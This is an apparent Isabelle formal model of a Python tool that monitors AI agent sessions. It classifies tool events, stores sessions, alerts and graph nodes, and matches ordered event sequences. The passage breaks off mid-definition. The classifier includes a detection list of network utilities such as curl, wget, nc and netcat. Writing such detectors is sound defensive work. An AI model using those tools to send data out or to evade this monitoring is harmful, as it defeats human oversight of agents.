theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Sublist"
begin

section \<open>Python values and string helpers\<close>

text \<open>
  Identifiers (UUIDs) are natural numbers. Timestamps (\<open>datetime\<close>) are integers counting
  microseconds, the resolution of \<open>datetime\<close>. Strings are lists of characters with code
  points below 256; \<open>str.lower\<close> is modelled on the ASCII letters.
\<close>

type_synonym uuid = nat
type_synonym datetime = int

datatype py_error = TypeError | AttributeError | IntegrityError | OverflowError

text \<open>A JSON value as \<open>dict[str, Any]\<close> holds it (floats are left out).\<close>

datatype jval =
    JNull
  | JBool bool
  | JInt int
  | JStr string
  | JList "jval list"
  | JDict "(string \<times> jval) list"

type_synonym pydict = "(string \<times> jval) list"

definition has_key :: "pydict \<Rightarrow> string \<Rightarrow> bool" where
  "has_key d k = (map_of d k \<noteq> None)"

definition dict_get :: "pydict \<Rightarrow> string \<Rightarrow> jval \<Rightarrow> jval" where
  "dict_get d k dflt = (case map_of d k of Some v \<Rightarrow> v | None \<Rightarrow> dflt)"

definition lower_char :: "char \<Rightarrow> char" where
  "lower_char c =
     (case map_of (zip ''ABCDEFGHIJKLMNOPQRSTUVWXYZ'' ''abcdefghijklmnopqrstuvwxyz'') c of
        Some l \<Rightarrow> l
      | None \<Rightarrow> c)"

definition str_lower :: "string \<Rightarrow> string" where
  "str_lower s = map lower_char s"

definition startswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startswith s p = prefix p s"

text \<open>
  Whitespace: the characters below 256 for which \<open>str.isspace\<close> holds, which are also
  those of the whitespace class of \<open>re\<close> in a \<open>str\<close> pattern. \<open>str.split()\<close> without
  argument splits on runs of them.
\<close>

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c =
     (c \<in> set [CHR '' '', CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D,
                CHR 0x1C, CHR 0x1D, CHR 0x1E, CHR 0x1F, CHR 0x85, CHR 0xA0])"

fun split_ws :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "split_ws cur [] = (if cur = [] then [] else [rev cur])"
| "split_ws cur (c # cs) =
     (if is_space c then (if cur = [] then split_ws [] cs else rev cur # split_ws [] cs)
      else split_ws (c # cur) cs)"

definition py_split :: "string \<Rightarrow> string list" where
  "py_split s = split_ws [] s"

section \<open>Events (models/events.py)\<close>

datatype EventCategory =
    FILE_READ | FILE_WRITE | FILE_DELETE | COMMAND_EXEC | NETWORK_ACCESS
  | CODE_EXECUTION | SUBAGENT_SPAWN | MCP_TOOL_USE | SESSION_LIFECYCLE | UNKNOWN

datatype Severity = CRITICAL | HIGH | MEDIUM | LOW | INFO

record event =
  e_id :: uuid
  e_session_id :: string
  e_timestamp :: datetime
  e_hook_type :: string
  e_tool_name :: "string option"
  e_tool_input :: "pydict option"
  e_tool_result :: "pydict option"
  e_category :: EventCategory
  e_severity :: Severity
  e_file_paths :: "string list"
  e_commands :: "string list"
  e_urls :: "string list"
  e_ip_addresses :: "string list"
  e_processed :: bool
  e_enriched :: bool
  e_raw_payload :: "pydict option"

text \<open>The \<open>Event\<close> constructor with the defaults of the model's fields.\<close>

definition Event ::
  "uuid \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> pydict option \<Rightarrow> event" where
  "Event i sid ts hook tool inp =
     \<lparr>e_id = i, e_session_id = sid, e_timestamp = ts, e_hook_type = hook,
      e_tool_name = tool, e_tool_input = inp, e_tool_result = None,
      e_category = UNKNOWN, e_severity = INFO,
      e_file_paths = [], e_commands = [], e_urls = [], e_ip_addresses = [],
      e_processed = False, e_enriched = False, e_raw_payload = None\<rparr>"

section \<open>Classifier (engine/classifier.py)\<close>

definition TOOL_CATEGORY_MAP :: "(string \<times> EventCategory) list" where
  "TOOL_CATEGORY_MAP =
    [(''Read'', FILE_READ), (''read_file'', FILE_READ), (''cat'', FILE_READ),
     (''head'', FILE_READ), (''tail'', FILE_READ), (''Glob'', FILE_READ), (''Grep'', FILE_READ),
     (''Write'', FILE_WRITE), (''Edit'', FILE_WRITE), (''write_file'', FILE_WRITE),
     (''NotebookEdit'', FILE_WRITE),
     (''Bash'', COMMAND_EXEC), (''bash'', COMMAND_EXEC), (''execute_command'', COMMAND_EXEC),
     (''shell'', COMMAND_EXEC),
     (''WebFetch'', NETWORK_ACCESS), (''WebSearch'', NETWORK_ACCESS), (''fetch'', NETWORK_ACCESS),
     (''curl'', NETWORK_ACCESS), (''http'', NETWORK_ACCESS),
     (''Task'', SUBAGENT_SPAWN), (''dispatch_agent'', SUBAGENT_SPAWN),
     (''TaskCreate'', SESSION_LIFECYCLE), (''TaskUpdate'', SESSION_LIFECYCLE),
     (''TaskList'', SESSION_LIFECYCLE), (''TaskGet'', SESSION_LIFECYCLE),
     (''TaskStop'', SESSION_LIFECYCLE), (''TodoWrite'', SESSION_LIFECYCLE),
     (''TodoRead'', SESSION_LIFECYCLE),
     (''AskUserQuestion'', SESSION_LIFECYCLE), (''Skill'', SESSION_LIFECYCLE),
     (''EnterPlanMode'', SESSION_LIFECYCLE), (''ExitPlanMode'', SESSION_LIFECYCLE)]"

definition network_commands :: "string list" where
  "network_commands =
    [''curl'', ''wget'', ''ssh'', ''scp'', ''rsync'', ''nc'', ''netcat'',
     ''ping'', ''traceroute'', ''dig'', ''nslookup'', ''host'',
     ''ftp'', ''sftp'', ''telnet'']"

text \<open>
  \<open>_is_network_command\<close>: \<open>any(cmd in command_lower for cmd in network_commands)\<close>, a
  substring test. \<open>command.lower()\<close> raises AttributeError on a value that is not a string.
\<close>

definition is_network_command :: "jval \<Rightarrow> py_error + bool" where
  "is_network_command command =
     (case command of
        JStr s \<Rightarrow> Inr (list_ex (\<lambda>cmd. sublist cmd (str_lower s)) network_commands)
      | _ \<Rightarrow> Inl AttributeError)"

definition tool_lookup :: "string option \<Rightarrow> EventCategory option" where
  "tool_lookup tool_name =
     (case tool_name of None \<Rightarrow> None
      | Some t \<Rightarrow> if t \<noteq> [] then map_of TOOL_CATEGORY_MAP t else None)"

definition classify_event :: "event \<Rightarrow> py_error + EventCategory" where
  "classify_event ev =
     (case tool_lookup (e_tool_name ev) of
        Some c \<Rightarrow> Inr c
      | None \<Rightarrow>
        let tool_input = (case e_tool_input ev of Some d \<Rightarrow> d | None \<Rightarrow> []) in
        if has_key tool_input ''file_path'' \<or> has_key tool_input ''path'' then
          (if has_key tool_input ''content'' \<or> has_key tool_input ''new_string''
           then Inr FILE_WRITE else Inr FILE_READ)
        else if has_key tool_input ''command'' then
          (case is_network_command (dict_get tool_input ''command'' (JStr [])) of
             Inl err \<Rightarrow> Inl err
           | Inr True \<Rightarrow> Inr NETWORK_ACCESS
           | Inr False \<Rightarrow> Inr COMMAND_EXEC)
        else if has_key tool_input ''url'' then Inr NETWORK_ACCESS
        else if e_hook_type ev \<in> set [''SessionStart'', ''SessionEnd'', ''PermissionRequest'',
                                       ''UserPromptSubmit'']
          then Inr SESSION_LIFECYCLE
        else if e_hook_type ev \<in> set [''SubagentStart'', ''SubagentStop'']
          then Inr SUBAGENT_SPAWN
        else Inr UNKNOWN)"

text \<open>
  The criterion in the words of the specification, for comparison with the code: the
  command's first token is one of the known network utilities.
\<close>

definition spec_first_token_is_network_utility :: "string \<Rightarrow> bool" where
  "spec_first_token_is_network_utility command =
     (case py_split command of [] \<Rightarrow> False | t # _ \<Rightarrow> t \<in> set network_commands)"

section \<open>Stored rows (models/, store/schema.py)\<close>

record session =
  s_id :: uuid
  s_session_id :: string
  s_started_at :: datetime
  s_ended_at :: "datetime option"
  s_cwd :: "string option"
  s_parent_session_id :: "string option"
  s_event_count :: int
  s_alert_count :: int
  s_risk_score :: int
  s_status :: string
  s_endpoint_hostname :: "string option"
  s_endpoint_user :: "string option"
  s_session_source :: "string option"

text \<open>
  Modelled from the spec: the Alert, AlertEvidence and Policy models and the PolicyAction,
  AlertStatus and ConditionOperator enums of models/alerts.py, which is not among the
  sources. The fields are those the specification lists and store/database.py reads and
  writes.
\<close>

datatype AlertStatus = NEW | INVESTIGATING | RESOLVED | DISMISSED

datatype PolicyAction = ALERT | BLOCK | LOG

datatype ConditionOperator =
    EQUALS | NOT_EQUALS | CONTAINS | NOT_CONTAINS | STARTS_WITH | ENDS_WITH
  | MATCHES | NOT_MATCHES | GREATER_THAN | LESS_THAN | IN_LIST | NOT_IN_LIST

record alert_evidence =
  ae_event_id :: uuid
  ae_timestamp :: datetime
  ae_description :: string
  ae_data :: pydict
  ae_file_path :: "string option"
  ae_command :: "string option"
  ae_url :: "string option"

record alert =
  a_id :: uuid
  a_session_id :: string
  a_created_at :: datetime
  a_updated_at :: datetime
  a_title :: string
  a_description :: string
  a_severity :: Severity
  a_category :: EventCategory
  a_status :: AlertStatus
  a_assigned_to :: "string option"
  a_policy_id :: "uuid option"
  a_event_ids :: "uuid list"
  a_evidence :: "alert_evidence list"
  a_action_taken :: "string option"
  a_blocked :: bool
  a_tags :: "string list"
  a_metadata :: pydict

record rule_condition =
  rc_field :: string
  rc_operator :: ConditionOperator
  rc_value :: jval
  rc_case_sensitive :: bool

record policy =
  p_id :: uuid
  p_name :: string
  p_description :: string
  p_enabled :: bool
  p_categories :: "EventCategory list"
  p_tools :: "string list"
  p_conditions :: "rule_condition list"
  p_condition_logic :: string
  p_action :: PolicyAction
  p_severity :: Severity
  p_alert_title :: string
  p_alert_description :: string
  p_tags :: "string list"

datatype NodeType =
    NT_SESSION | NT_FILE | NT_DIRECTORY | NT_COMMAND | NT_PROCESS | NT_NETWORK
  | NT_URL | NT_IP_ADDRESS | NT_TOOL | NT_USER | NT_ALERT

datatype EdgeRelation =
    READS | WRITES | CREATES | DELETES | MODIFIES
  | EXECUTES | SPAWNS | TERMINATES
  | CONNECTS_TO | DOWNLOADS_FROM | UPLOADS_TO | FETCHES
  | CONTAINS_REL | PARENT_OF | CHILD_OF
  | USES | INVOKES
  | TRIGGERS | RELATED_TO

text \<open>
  \<open>size\<close> and \<open>weight\<close> are floats that start at 1.0 and grow by 1; they are
  modelled as rationals.
\<close>

record graph_node =
  n_id :: uuid
  n_node_type :: NodeType
  n_label :: string
  n_value :: string
  n_first_seen :: datetime
  n_last_seen :: datetime
  n_access_count :: int
  n_alert_count :: int
  n_session_ids :: "string list"
  n_event_ids :: "uuid list"
  n_size :: rat
  n_color :: "string option"
  n_metadata :: pydict

record graph_edge =
  ge_id :: uuid
  ge_source_id :: uuid
  ge_target_id :: uuid
  ge_relation :: EdgeRelation
  ge_first_seen :: datetime
  ge_last_seen :: datetime
  ge_count :: int
  ge_session_ids :: "string list"
  ge_event_ids :: "uuid list"
  ge_weight :: rat
  ge_color :: "string option"
  ge_metadata :: pydict

text \<open>The database: one list of rows per table, in insertion order.\<close>

record database =
  db_sessions :: "session list"
  db_events :: "event list"
  db_alerts :: "alert list"
  db_policies :: "policy list"
  db_graph_nodes :: "graph_node list"
  db_graph_edges :: "graph_edge list"

definition empty_database :: database where
  "empty_database =
     \<lparr>db_sessions = [], db_events = [], db_alerts = [], db_policies = [],
      db_graph_nodes = [], db_graph_edges = []\<rparr>"

section \<open>Session operations (store/database.py)\<close>

text \<open>\<open>UPDATE sessions SET ... WHERE session_id = ?\<close> rewrites every matching row.\<close>

definition update_sessions_where ::
  "string \<Rightarrow> (session \<Rightarrow> session) \<Rightarrow> database \<Rightarrow> database" where
  "update_sessions_where sid f db =
     db\<lparr>db_sessions := map (\<lambda>s. if s_session_id s = sid then f s else s) (db_sessions db)\<rparr>"

definition increment_session_event_count :: "database \<Rightarrow> string \<Rightarrow> database" where
  "increment_session_event_count db session_id =
     update_sessions_where session_id
       (\<lambda>s. s\<lparr>s_event_count := s_event_count s + 1, s_status := ''active'',
               s_ended_at := None\<rparr>) db"

definition increment_session_alert_count :: "database \<Rightarrow> string \<Rightarrow> database" where
  "increment_session_alert_count db session_id =
     update_sessions_where session_id (\<lambda>s. s\<lparr>s_alert_count := s_alert_count s + 1\<rparr>) db"

definition increment_session_risk_score :: "database \<Rightarrow> string \<Rightarrow> int \<Rightarrow> database" where
  "increment_session_risk_score db session_id delta =
     update_sessions_where session_id (\<lambda>s. s\<lparr>s_risk_score := s_risk_score s + delta\<rparr>) db"

text \<open>\<open>end_session\<close>; \<open>now\<close> is the reading of the clock.\<close>

definition end_session :: "database \<Rightarrow> datetime \<Rightarrow> string \<Rightarrow> database" where
  "end_session db now session_id =
     update_sessions_where session_id
       (\<lambda>s. s\<lparr>s_ended_at := Some now, s_status := ''ended''\<rparr>) db"

text \<open>
  \<open>cleanup_stale_sessions\<close>: the active sessions whose last event, or whose start when
  they have no event, is older than the cutoff are marked ended; returns the row count.
\<close>

definition last_event :: "database \<Rightarrow> string \<Rightarrow> datetime option" where
  "last_event db sid =
     (case map e_timestamp (filter (\<lambda>e. e_session_id e = sid) (db_events db)) of
        [] \<Rightarrow> None
      | t # ts \<Rightarrow> Some (fold max ts t))"

definition is_stale :: "database \<Rightarrow> datetime \<Rightarrow> session \<Rightarrow> bool" where
  "is_stale db cutoff s =
     (s_status s = ''active'' \<and>
      (case last_event db (s_session_id s) of
         Some t \<Rightarrow> t < cutoff
       | None \<Rightarrow> s_started_at s < cutoff))"

definition cleanup_stale_sessions :: "database \<Rightarrow> datetime \<Rightarrow> int \<Rightarrow> database \<times> nat" where
  "cleanup_stale_sessions db now inactive_minutes =
     (let cutoff = now - inactive_minutes * 60 * 1000000;
          stale_ids = map s_session_id (filter (is_stale db cutoff) (db_sessions db));
          hit = (\<lambda>s. s_status s = ''active'' \<and> s_session_id s \<in> set stale_ids)
      in (db\<lparr>db_sessions :=
               map (\<lambda>s. if hit s then s\<lparr>s_ended_at := Some now, s_status := ''ended''\<rparr> else s)
                 (db_sessions db)\<rparr>,
          length (filter hit (db_sessions db))))"

section \<open>Session graph query (store/database.py)\<close>

text \<open>
  \<open>json.dumps\<close> of a list of strings, as \<open>_serialize_json\<close> stores \<open>session_ids\<close>:
  items joined by a comma and a space; inside a string, the quote and the backslash are
  escaped, and every character outside the printable ASCII range is written as an escape.
\<close>

definition dquote :: char where "dquote = CHR 0x22"
definition bslash :: char where "bslash = CHR 0x5C"

definition hex_digit :: "nat \<Rightarrow> char" where
  "hex_digit n = ''0123456789abcdef'' ! (n mod 16)"

definition json_escape_char :: "char \<Rightarrow> string" where
  "json_escape_char c =
     (if c = dquote then [bslash, dquote]
      else if c = bslash then [bslash, bslash]
      else if c = CHR 0x0A then [bslash, CHR ''n'']
      else if c = CHR 0x0D then [bslash, CHR ''r'']
      else if c = CHR 0x09 then [bslash, CHR ''t'']
      else if c = CHR 0x0C then [bslash, CHR ''f'']
      else if c = CHR 0x08 then [bslash, CHR ''b'']
      else if (of_char c :: nat) < 32 \<or> 126 < (of_char c :: nat)
        then [bslash, CHR ''u'', CHR ''0'', CHR ''0'',
              hex_digit (of_char c div 16), hex_digit (of_char c)]
      else [c])"

definition json_dumps_str :: "string \<Rightarrow> string" where
  "json_dumps_str s = [dquote] @ concat (map json_escape_char s) @ [dquote]"

fun join_comma :: "string list \<Rightarrow> string" where
  "join_comma [] = []"
| "join_comma [x] = x"
| "join_comma (x # y # ys) = x @ '', '' @ join_comma (y # ys)"

definition json_dumps_strs :: "string list \<Rightarrow> string" where
  "json_dumps_strs xs = ''['' @ join_comma (map json_dumps_str xs) @ '']''"

text \<open>
  SQLite's \<open>LIKE\<close>: \<open>%\<close> matches any run of characters, \<open>_\<close> any one character,
  and letters compare without regard to (ASCII) case. First argument: the pattern.
\<close>

fun sql_like :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "sql_like [] s = (s = [])"
| "sql_like (p # ps) s =
     (if p = CHR ''%'' then
        (sql_like ps s \<or> (case s of [] \<Rightarrow> False | c # t \<Rightarrow> sql_like (p # ps) t))
      else
        (case s of [] \<Rightarrow> False
         | c # t \<Rightarrow> (p = CHR ''_'' \<or> lower_char p = lower_char c) \<and> sql_like ps t))"

text \<open>
  \<open>get_session_graph\<close>: the nodes whose stored \<open>session_ids\<close> text is
  \<open>LIKE '%"<session_id>"%'\<close>, by descending access count, and the edges whose
  \<open>source_id IN (ids) OR target_id IN (ids)\<close>.
\<close>

definition get_session_graph :: "database \<Rightarrow> string \<Rightarrow> graph_node list \<times> graph_edge list" where
  "get_session_graph db session_id =
     (let nodes = sort_key (\<lambda>n. - n_access_count n)
                    (filter (\<lambda>n. sql_like (''%'' @ [dquote] @ session_id @ [dquote] @ ''%'')
                                     (json_dumps_strs (n_session_ids n)))
                       (db_graph_nodes db));
          edges = (if nodes \<noteq> [] then
                     (let node_ids = map n_id nodes
                      in filter (\<lambda>e. ge_source_id e \<in> set node_ids \<or> ge_target_id e \<in> set node_ids)
                           (db_graph_edges db))
                   else [])
      in (nodes, edges))"

section \<open>Timeline statistics (store/database.py)\<close>

text \<open>
  A Python \<open>datetime\<close> as the timeline handles it: its wall-clock reading (the fields
  year to microsecond) counted in microseconds from 0001-01-01 00:00:00, and its UTC offset
  in minutes if it is aware, \<open>None\<close> if it is naive. The bounds of a request are
  parsed from ISO text by the API or read from the clock in UTC (api/stats.py): an aware
  one has a fixed offset of whole minutes. The last reading a \<open>datetime\<close> can hold is
  9999-12-31 23:59:59.999999, the last microsecond of day 3652058 after 0001-01-01.
\<close>

record pydatetime =
  dt_wall :: int
  dt_utcoffset :: "int option"

text \<open>The instant of a reading: the reading less its offset; a naive reading as it stands.\<close>

definition utc_instant :: "pydatetime \<Rightarrow> int" where
  "utc_instant d = dt_wall d - (case dt_utcoffset d of None \<Rightarrow> 0 | Some m \<Rightarrow> m * 60000000)"






text \<open>
  The stored timestamps are the \<open>isoformat()\<close> texts, and SQL compares them as texts,
  byte by byte. An ISO text is the reading to the second in 19 characters of fixed width,
  which order as the seconds do, then the microseconds if there are any, then the offset
  if there is one.
\<close>

definition digit_char :: "int \<Rightarrow> char" where
  "digit_char n = ''0123456789'' ! nat (n mod 10)"

definition digits2 :: "int \<Rightarrow> string" where
  "digits2 n = [digit_char (n div 10), digit_char n]"

definition digits6 :: "int \<Rightarrow> string" where
  "digits6 n =
     [digit_char (n div 100000), digit_char (n div 10000), digit_char (n div 1000),
      digit_char (n div 100), digit_char (n div 10), digit_char n]"

definition iso_tail :: "pydatetime \<Rightarrow> string" where
  "iso_tail d =
     (let us = dt_wall d mod 1000000
      in (if us = 0 then [] else CHR ''.'' # digits6 us)
         @ (case dt_utcoffset d of
              None \<Rightarrow> []
            | Some m \<Rightarrow>
                (if m < 0 then ''-'' else ''+'')
                @ digits2 (\<bar>m\<bar> div 60) @ '':'' @ digits2 (\<bar>m\<bar> mod 60)))"

fun text_le :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "text_le [] t = True"
| "text_le (c # s) [] = False"
| "text_le (c # s) (d # t) = ((of_char c :: nat) < of_char d \<or> (c = d \<and> text_le s t))"

definition iso_le :: "pydatetime \<Rightarrow> pydatetime \<Rightarrow> bool" where
  "iso_le a b =
     (dt_wall a div 1000000 < dt_wall b div 1000000
      \<or> (dt_wall a div 1000000 = dt_wall b div 1000000 \<and> text_le (iso_tail a) (iso_tail b)))"










definition usec_minute :: int where "usec_minute = 60 * 1000000"
definition usec_hour :: int where "usec_hour = 3600 * 1000000"
definition usec_day :: int where "usec_day = 86400 * 1000000"























section \<open>Constructors with the models' defaults, and example data\<close>

definition Session :: "uuid \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> session" where
  "Session i sid started =
     \<lparr>s_id = i, s_session_id = sid, s_started_at = started, s_ended_at = None,
      s_cwd = None, s_parent_session_id = None, s_event_count = 0, s_alert_count = 0,
      s_risk_score = 0, s_status = ''active'', s_endpoint_hostname = None,
      s_endpoint_user = None, s_session_source = None\<rparr>"

text \<open>
  Modelled from the spec: the Alert constructor of models/alerts.py. A new alert has
  status new, no assignee, no evidence, no action notes, no tags and empty metadata; its
  id (\<open>uuid4\<close>) and creation time (the clock) are arguments here.
\<close>

definition Alert ::
  "uuid \<Rightarrow> datetime \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> Severity \<Rightarrow> EventCategory
     \<Rightarrow> uuid option \<Rightarrow> uuid list \<Rightarrow> bool \<Rightarrow> alert" where
  "Alert i now sid title description severity category policy_id event_ids blocked =
     \<lparr>a_id = i, a_session_id = sid, a_created_at = now, a_updated_at = now,
      a_title = title, a_description = description, a_severity = severity,
      a_category = category, a_status = NEW, a_assigned_to = None, a_policy_id = policy_id,
      a_event_ids = event_ids, a_evidence = [], a_action_taken = None, a_blocked = blocked,
      a_tags = [], a_metadata = []\<rparr>"

text \<open>
  Example data for the timeline, all on 2024-01-01 and in UTC (offset \<open>+00:00\<close>, for
  which SQLite prints the fields as they stand). 2024-01-01 is day 738885 after
  0001-01-01. The example library prints the labels of the readings of that day; the
  tables hold one session, one event at 00:30 and one alert at 01:30.
\<close>

definition jan_1_2024 :: int where
  "jan_1_2024 = 738885 * usec_day"

definition utc_at :: "int \<Rightarrow> pydatetime" where
  "utc_at wall = \<lparr>dt_wall = wall, dt_utcoffset = Some 0\<rparr>"






text \<open>A store whose only session has been ended at time 50.\<close>

definition ended_db :: database where
  "ended_db = end_session (empty_database\<lparr>db_sessions := [Session 1 ''s1'' 0]\<rparr>) 50 ''s1''"

text \<open>
  The \<open>GraphNode\<close> and \<open>GraphEdge\<close> constructors with the defaults of models/graph.py;
  the id (\<open>uuid4\<close>) and the time (the clock) are arguments.
\<close>

definition GraphNode ::
  "uuid \<Rightarrow> datetime \<Rightarrow> NodeType \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> uuid list \<Rightarrow> graph_node" where
  "GraphNode i now node_type label val session_ids event_ids =
     \<lparr>n_id = i, n_node_type = node_type, n_label = label, n_value = val,
      n_first_seen = now, n_last_seen = now, n_access_count = 1, n_alert_count = 0,
      n_session_ids = session_ids, n_event_ids = event_ids, n_size = 1, n_color = None,
      n_metadata = []\<rparr>"

definition GraphEdge ::
  "uuid \<Rightarrow> datetime \<Rightarrow> uuid \<Rightarrow> uuid \<Rightarrow> EdgeRelation \<Rightarrow> string list \<Rightarrow> uuid list \<Rightarrow> graph_edge" where
  "GraphEdge i now source_id target_id relation session_ids event_ids =
     \<lparr>ge_id = i, ge_source_id = source_id, ge_target_id = target_id, ge_relation = relation,
      ge_first_seen = now, ge_last_seen = now, ge_count = 1,
      ge_session_ids = session_ids, ge_event_ids = event_ids, ge_weight = 1, ge_color = None,
      ge_metadata = []\<rparr>"

section \<open>Python \<open>str\<close> and \<open>repr\<close>\<close>

definition squote :: char where "squote = CHR 0x27"

function str_nat :: "nat \<Rightarrow> string" where
  "str_nat n =
     (if n < 10 then [''0123456789'' ! n]
      else str_nat (n div 10) @ [''0123456789'' ! (n mod 10)])"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>n. n)") auto

declare str_nat.simps [simp del]

definition str_int :: "int \<Rightarrow> string" where
  "str_int i = (if i < 0 then ''-'' @ str_nat (nat (- i)) else str_nat (nat i))"

text \<open>
  \<open>repr\<close> of a string: single quotes, unless the string has a single quote and no double
  quote; the quote in use and the backslash are escaped, control characters are written
  as escapes.
\<close>

definition repr_char :: "char \<Rightarrow> char \<Rightarrow> string" where
  "repr_char q c =
     (if c = q \<or> c = bslash then [bslash, c]
      else if c = CHR 0x0A then [bslash, CHR ''n'']
      else if c = CHR 0x0D then [bslash, CHR ''r'']
      else if c = CHR 0x09 then [bslash, CHR ''t'']
      else if (of_char c :: nat) < 32 \<or> (127 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 160)
              \<or> (of_char c :: nat) = 173
        then [bslash, CHR ''x'', hex_digit (of_char c div 16), hex_digit (of_char c)]
      else [c])"

definition py_repr_str :: "string \<Rightarrow> string" where
  "py_repr_str s =
     (let q = (if squote \<in> set s \<and> dquote \<notin> set s then dquote else squote)
      in [q] @ concat (map (repr_char q) s) @ [q])"

fun py_repr :: "jval \<Rightarrow> string" where
  "py_repr JNull = ''None''"
| "py_repr (JBool b) = (if b then ''True'' else ''False'')"
| "py_repr (JInt i) = str_int i"
| "py_repr (JStr s) = py_repr_str s"
| "py_repr (JList xs) = ''['' @ join_comma (map py_repr xs) @ '']''"
| "py_repr (JDict kvs) =
     ''{'' @ join_comma (map (\<lambda>kv. py_repr_str (fst kv) @ '': '' @ py_repr (snd kv)) kvs) @ ''}''"

definition py_str :: "jval \<Rightarrow> string" where
  "py_str v = (case v of JStr s \<Rightarrow> s | _ \<Rightarrow> py_repr v)"

text \<open>\<open>str.split(sep)\<close> with a one-character separator.\<close>

fun split_on :: "char \<Rightarrow> string \<Rightarrow> string list" where
  "split_on sep [] = [[]]"
| "split_on sep (c # cs) =
     (if c = sep then [] # split_on sep cs
      else (case split_on sep cs of [] \<Rightarrow> [[c]] | w # ws \<Rightarrow> (c # w) # ws))"

section \<open>Sequence tracker (engine/sequence.py)\<close>

record sequence_step =
  st_label :: string
  st_categories :: "string list"
  st_field_patterns :: "(string \<times> string) list"

record sequence_rule =
  r_id :: string
  r_name :: string
  r_description :: string
  r_steps :: "sequence_step list"
  r_time_window_seconds :: int
  r_ordered :: bool
  r_action :: PolicyAction
  r_severity :: Severity
  r_alert_title :: string
  r_alert_description :: string
  r_tags :: "string list"
  r_enabled :: bool

record buffered_event =
  be_event_id :: uuid
  be_timestamp :: datetime
  be_data :: pydict

record tracker =
  t_rules :: "sequence_rule list"
  t_buffers :: "string \<Rightarrow> buffered_event list option"
  t_max_buffer_size :: nat
  t_fired :: "(string \<times> string) set"

text \<open>
  \<open>re.search(pattern, text, re.IGNORECASE)\<close> of the standard library is a parameter of
  the model: it answers whether the pattern matches somewhere, or \<open>None\<close> where it raises
  \<open>re.error\<close>.
\<close>

type_synonym re_search = "string \<Rightarrow> string \<Rightarrow> bool option"

definition SequenceTracker :: "nat \<Rightarrow> tracker" where
  "SequenceTracker max_buffer_size =
     \<lparr>t_rules = [], t_buffers = (\<lambda>_. None), t_max_buffer_size = max_buffer_size,
      t_fired = {}\<rparr>"

definition load_rules :: "tracker \<Rightarrow> sequence_rule list \<Rightarrow> tracker" where
  "load_rules tr rules = tr\<lparr>t_rules := filter r_enabled rules\<rparr>"

text \<open>\<open>_get_nested\<close>; Python's \<open>None\<close> is \<open>JNull\<close>.\<close>

fun get_nested_parts :: "jval \<Rightarrow> string list \<Rightarrow> jval" where
  "get_nested_parts v [] = v"
| "get_nested_parts v (part # parts) =
     (case v of
        JDict d \<Rightarrow> get_nested_parts (dict_get d part JNull) parts
      | _ \<Rightarrow> JNull)"

definition get_nested :: "pydict \<Rightarrow> string \<Rightarrow> jval" where
  "get_nested data path = get_nested_parts (JDict data) (split_on CHR ''.'' path)"

definition matches_step :: "re_search \<Rightarrow> sequence_step \<Rightarrow> pydict \<Rightarrow> bool" where
  "matches_step re step event_data =
     ((st_categories step \<noteq> [] \<longrightarrow>
         dict_get event_data ''category'' (JStr []) \<in> set (map JStr (st_categories step)))
      \<and> list_all
          (\<lambda>(field_path, pattern).
             let field_value = get_nested event_data field_path
             in field_value \<noteq> JNull \<and> re pattern (py_str field_value) = Some True)
          (st_field_patterns step))"

text \<open>
  \<open>_find_ordered_match\<close>: for each step the earliest match, in the order of
  \<open>sorted(..., key=timestamp)\<close>, that is not before the event picked last.
\<close>

definition not_before :: "datetime option \<Rightarrow> buffered_event \<Rightarrow> bool" where
  "not_before last_time e =
     (case last_time of None \<Rightarrow> True | Some t \<Rightarrow> be_timestamp e \<ge> t)"

fun find_ordered_from ::
  "datetime option \<Rightarrow> buffered_event list list \<Rightarrow> buffered_event list option" where
  "find_ordered_from last_time [] = Some []"
| "find_ordered_from last_time (matches # rest) =
     (case find (not_before last_time) (sort_key be_timestamp matches) of
        None \<Rightarrow> None
      | Some e \<Rightarrow>
          (case find_ordered_from (Some (be_timestamp e)) rest of
             None \<Rightarrow> None
           | Some result \<Rightarrow> Some (e # result)))"

definition find_ordered_match :: "buffered_event list list \<Rightarrow> buffered_event list option" where
  "find_ordered_match step_matches = find_ordered_from None step_matches"

text \<open>\<open>_check_rule\<close>, with its local variables \<open>window_events\<close> and \<open>step_matches\<close>.\<close>

definition session_buffer :: "tracker \<Rightarrow> string \<Rightarrow> buffered_event list" where
  "session_buffer tr session_id =
     (case t_buffers tr session_id of None \<Rightarrow> [] | Some buf \<Rightarrow> buf)"

definition window_cutoff :: "sequence_rule \<Rightarrow> datetime \<Rightarrow> datetime" where
  "window_cutoff rule now = now - r_time_window_seconds rule * 1000000"

definition window_events :: "tracker \<Rightarrow> sequence_rule \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> buffered_event list" where
  "window_events tr rule session_id now =
     filter (\<lambda>e. be_timestamp e \<ge> window_cutoff rule now) (session_buffer tr session_id)"

definition step_matches ::
  "re_search \<Rightarrow> tracker \<Rightarrow> sequence_rule \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> buffered_event list list" where
  "step_matches re tr rule session_id now =
     map (\<lambda>step. filter (\<lambda>e. matches_step re step (be_data e))
                    (window_events tr rule session_id now))
       (r_steps rule)"

definition check_rule ::
  "re_search \<Rightarrow> tracker \<Rightarrow> sequence_rule \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> buffered_event list option" where
  "check_rule re tr rule session_id now =
     (if session_buffer tr session_id = [] then None
      else if window_events tr rule session_id now = [] then None
      else if list_ex (\<lambda>matching. matching = []) (step_matches re tr rule session_id now)
        then None
      else if r_ordered rule then find_ordered_match (step_matches re tr rule session_id now)
      else Some (map hd (step_matches re tr rule session_id now)))"

text \<open>The loop of \<open>track_event\<close> over the rules, threading the fired set.\<close>

fun check_rules ::
